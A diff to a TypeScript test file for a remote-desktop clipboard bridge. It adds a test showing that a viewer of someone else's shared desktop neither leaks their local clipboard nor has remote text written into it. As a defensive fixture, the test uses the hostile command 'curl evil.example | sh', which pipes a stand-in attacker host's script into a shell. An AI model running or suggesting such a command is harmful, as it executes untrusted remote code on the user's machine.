@@ -1,7 +1,7 @@
 import { describe, expect, it } from 'vitest'
 import { ClipboardBridge, type ClipboardDeps } from './clipboardBridge'
 
-function fakes(options: { permission?: PermissionState | null; writable?: boolean; local?: string } = {}) {
+function fakes(options: { permission?: PermissionState | null; writable?: boolean; local?: string; own?: boolean } = {}) {
   const sent: string[] = []
   const written: string[] = []
   let local = options.local ?? ''
@@ -17,6 +17,7 @@ function fakes(options: { permission?: PermissionState | null; writable?: boolea
     },
     permission: () => Promise.resolve(options.permission ?? null),
     send: (text) => sent.push(text),
+    automatic: () => options.own ?? true,
   }
   return { deps, sent, written, setLocal: (text: string) => (local = text) }
 }
@@ -59,5 +60,22 @@ describe('ClipboardBridge', () => {
     granted.setLocal('newer')
     expect(await bridge.syncOnFocus()).toBe(true)
     expect(granted.sent).toEqual(['local text', 'newer'])
+  })
+
+  it('in someone else desktop, neither sends the local clipboard on focus nor writes it', async () => {
+    // A viewer (user or support) of a shared desktop, whose browser granted clipboard-read
+    // to labgate for their own desktops; their clipboard holds a password.
+    const { deps, sent, written, setLocal } = fakes({ permission: 'granted', own: false })
+    setLocal('hunter2 (copied from the password manager)')
+    const bridge = new ClipboardBridge(deps)
+    expect(await bridge.syncOnFocus()).toBe(false)
+    expect(sent).toEqual([])
+    expect(await bridge.fromDesktop('curl evil.example | sh')).toBe(false)
+    expect(written).toEqual([])
+    expect(bridge.remoteText).toBe('curl evil.example | sh') // the panel shows it, to copy by hand
+    expect(bridge.copiedLocally).toBe(false)
+    // The panel's paste box still works, as the viewer's own act.
+    bridge.toDesktop('typed on purpose')
+    expect(sent).toEqual(['typed on purpose'])
   })
 })
